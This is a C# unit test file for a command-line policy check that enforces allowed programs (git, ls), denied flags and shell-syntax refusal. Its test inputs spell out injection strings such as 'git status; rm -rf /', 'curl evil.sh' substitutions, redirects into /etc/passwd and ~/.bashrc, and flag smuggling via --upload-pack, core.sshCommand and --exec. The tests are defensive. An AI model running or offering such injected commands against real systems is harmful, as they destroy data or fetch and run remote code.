using System.Text.Json;
using McpPolicy.Schemas.Constraints;

namespace McpPolicy.Schemas.Tests.Constraints;

public sealed class CommandLineConstraintTests
{
    private static readonly CommandLineCheck Git = Compile("""{ "allow": ["git", "ls"], "denyFlags": ["--upload-pack", "-c", "--exec", "-exec"] }""");

    private static readonly CommandLineCheck GitWithoutShell = Compile("""{ "allow": ["git", "ls"], "denyFlags": ["--upload-pack", "-c"], "shell": false }""");

    private static CommandLineCheck Compile(string settings) => (CommandLineCheck)new CommandLineConstraintKind().Compile(JsonDocument.Parse(settings).RootElement);

    [Theory]
    [InlineData("git status")]
    [InlineData("git log --oneline -n 5")]
    [InlineData("ls -la /srv/data")]
    [InlineData("git log --grep=\"a b\"")]
    [InlineData("git log -- '*.cs'")]
    [InlineData("  git\tstatus  ")]
    [InlineData("git --config-file=x")]
    public void Allowed_command_is_accepted(string command)
        => Assert.Equal(CommandLineVerdict.Allowed, Git.Evaluate(command));

    [Fact]
    public void Quoted_operators_are_refused_too_when_the_value_reaches_a_shell()
    {
        // Stricter than the shell, so a quoting difference between this tokenizer and the real shell cannot open a hole.
        Assert.Equal(CommandLineVerdict.ShellSyntax, Git.Evaluate("git commit -m 'fix: a; b'"));
        Assert.Equal(CommandLineVerdict.Allowed, GitWithoutShell.Evaluate("git commit -m 'fix: a; b | c && d $(e) `f` > g'"));
    }

    [Theory]
    [InlineData("git status; rm -rf /", "semicolon")]
    [InlineData("git status | sh", "pipe")]
    [InlineData("git status && curl evil.sh", "and-list")]
    [InlineData("git status || curl evil.sh", "or-list")]
    [InlineData("git status & curl evil.sh", "background")]
    [InlineData("git log $(curl evil.sh)", "command substitution")]
    [InlineData("git log `curl evil.sh`", "backtick substitution")]
    [InlineData("git log ${HOME}", "parameter expansion")]
    [InlineData("git log $HOME", "variable")]
    [InlineData("git log > /etc/passwd", "output redirection")]
    [InlineData("git log >> ~/.bashrc", "append redirection")]
    [InlineData("git apply < /etc/shadow", "input redirection")]
    [InlineData("git log 2>&1", "descriptor redirection")]
    [InlineData("git log <(cat /etc/passwd)", "process substitution")]
    [InlineData("(git log)", "subshell")]
    [InlineData("git log \"$(id)\"", "substitution inside double quotes")]
    [InlineData("git log '$(id)'", "substitution inside single quotes (refused anyway)")]
    [InlineData("git log ~root", "tilde expansion")]
    [InlineData("git log *", "glob")]
    [InlineData("git log {a,b}", "brace expansion")]
    [InlineData("git log # comment", "comment")]
    public void Shell_syntax_is_refused_when_the_value_reaches_a_shell(string command, string what)
        => Assert.True(Git.Evaluate(command) == CommandLineVerdict.ShellSyntax, what);

    [Theory]
    [InlineData("git status\nrm -rf /", "newline")]
    [InlineData("git status\rrm -rf /", "carriage return")]
    [InlineData("git status\u0000rm", "NUL")]
    [InlineData("git status\u2028rm", "line separator")]
    [InlineData("git log 'unterminated", "open single quote")]
    [InlineData("git log \"unterminated", "open double quote")]
    [InlineData("git log \\", "trailing backslash")]
    [InlineData("", "empty")]
    [InlineData("   ", "blank")]
    [InlineData("'' status", "empty program")]
    public void Malformed_command_line_is_refused(string command, string what)
    {
        Assert.True(Git.Evaluate(command) == CommandLineVerdict.Malformed, what);
        Assert.True(GitWithoutShell.Evaluate(command) == CommandLineVerdict.Malformed, what);
    }

    [Theory]
    [InlineData("git fetch --upload-pack=evil origin", "--flag=value")]
    [InlineData("git fetch --upload-pack evil origin", "--flag value")]
    [InlineData("git fetch --upload-pa=evil origin", "abbreviated long flag")]
    [InlineData("git fetch --upl=evil origin", "short abbreviation")]
    [InlineData("git fetch '--upload-pack=evil' origin", "single-quoted flag")]
    [InlineData("git fetch \"--upload-pack\"=evil origin", "partly quoted flag")]
    [InlineData("git fetch --upl\"\"oad-pack=evil origin", "empty quotes inside the flag")]
    [InlineData("git fetch --upl\\oad-pack=evil origin", "backslash inside the flag")]
    [InlineData("git -c core.sshCommand=evil fetch", "short flag")]
    [InlineData("git -ccore.sshCommand=evil fetch", "short flag with attached value")]
    [InlineData("ls -xc", "combined short flags, last")]
    [InlineData("ls -cx", "combined short flags, first")]
    [InlineData("ls -l -a -c", "separate short flags")]
    [InlineData("git log -- -c", "after end of options (stricter than getopt)")]
    [InlineData("git rebase --exec=sh", "another long flag")]
    [InlineData("git rebase -exec sh", "single-dash long flag")]
    [InlineData("git fetch --upload origin", "any prefix counts as an abbreviation")]
    public void Denied_flag_is_found_in_every_spelling(string command, string what)
        => Assert.True(Git.Evaluate(command) == CommandLineVerdict.FlagDenied, what);

    [Theory]
    [InlineData("git log --color")]
    [InlineData("ls -la")]
    [InlineData("git log -n5")]
    [InlineData("git log c")]
    public void Flag_that_is_not_denied_is_accepted(string command)
        => Assert.Equal(CommandLineVerdict.Allowed, Git.Evaluate(command));

    [Theory]
    [InlineData("rm -rf /")]
    [InlineData("/usr/bin/git status")]
    [InlineData("./git status")]
    [InlineData("/tmp/evil/git status")]
    [InlineData("GIT status")]
    [InlineData("gitx status")]
    [InlineData("GIT_SSH_COMMAND=evil git fetch")]
    [InlineData("env git status")]
    [InlineData("sh -c 'git status'")]
    public void Program_not_listed_is_refused(string command)
        => Assert.Equal(
            OperatingSystem.IsWindows() && command.StartsWith("GIT ", StringComparison.Ordinal) ? CommandLineVerdict.Allowed : CommandLineVerdict.ProgramNotAllowed,
            Git.Evaluate(command));

    [Fact]
    public void Quoted_program_name_is_the_program_after_quote_removal()
    {
        Assert.Equal(CommandLineVerdict.Allowed, Git.Evaluate("'git' status"));
        Assert.Equal(CommandLineVerdict.Allowed, Git.Evaluate("g\"i\"t status"));
        Assert.Equal(CommandLineVerdict.ProgramNotAllowed, Git.Evaluate("'git status'"));
    }

    [Fact]
    public void Without_a_shell_operators_are_plain_characters_but_flags_are_still_checked()
    {
        Assert.Equal(CommandLineVerdict.Allowed, GitWithoutShell.Evaluate("git log --grep=a;b|c $(d) > e *"));
        Assert.Equal(CommandLineVerdict.FlagDenied, GitWithoutShell.Evaluate("git fetch '--upload-pack=x;y'"));
        Assert.Equal(CommandLineVerdict.ProgramNotAllowed, GitWithoutShell.Evaluate("rm -rf /"));
    }

    [Fact]
    public void Without_an_allow_list_any_program_runs_but_shell_syntax_does_not()
    {
        var check = Compile("""{ "denyFlags": ["-rf"] }""");

        Assert.Equal(CommandLineVerdict.Allowed, check.Evaluate("make test"));
        Assert.Equal(CommandLineVerdict.ShellSyntax, check.Evaluate("make test; reboot"));
        Assert.Equal(CommandLineVerdict.FlagDenied, check.Evaluate("rm -rf /"));
    }

    [Fact]
    public void Tokenizer_follows_posix_quoting()
    {
        Assert.True(CommandLineTokenizer.TryTokenize("a 'b c' \"d \\\" \\$ \\x\" e\\ f ''", out var tokens, out var special));
        Assert.Equal(["a", "b c", "d \" $ \\x", "e f", ""], tokens);
        Assert.False(special);
    }

    [Theory]
    [InlineData("42")]
    [InlineData("null")]
    [InlineData("{\"program\":\"git\"}")]
    public void Value_that_is_not_a_string_cannot_be_judged(string json)
        => Assert.Null(Git.Check(JsonDocument.Parse(json).RootElement));

    [Fact]
    public void Description_names_programs_flags_and_the_shell_rule()
        => Assert.Equal(
            "must be a command line running git or ls, without the flags --upload-pack, -c, and without shell operators, substitutions or redirections",
            Compile("""{ "allow": ["git", "ls"], "denyFlags": ["--upload-pack", "-c"] }""").Description);

    [Theory]
    [InlineData("""{ "denyFlags": ["upload-pack"] }""", "$.denyFlags[0]")]
    [InlineData("""{ "denyFlags": ["--"] }""", "$.denyFlags[0]")]
    [InlineData("""{ "denyFlags": ["-"] }""", "$.denyFlags[0]")]
    [InlineData("""{ "denyFlags": ["--upload-pack=x"] }""", "$.denyFlags[0]")]
    [InlineData("""{ "allow": ["git status"] }""", "$.allow[0]")]
    [InlineData("""{ "shell": "sometimes" }""", "$.shell")]
    [InlineData("""{ "programs": ["git"] }""", "$.programs")]
    public void Invalid_settings_are_reported_under_their_key(string settings, string path)
    {
        var ex = Assert.Throws<PolicyValidationException>(() => new CommandLineConstraintKind().Compile(JsonDocument.Parse(settings).RootElement));
        Assert.Equal(path, Assert.Single(ex.Errors).Path);
    }
}
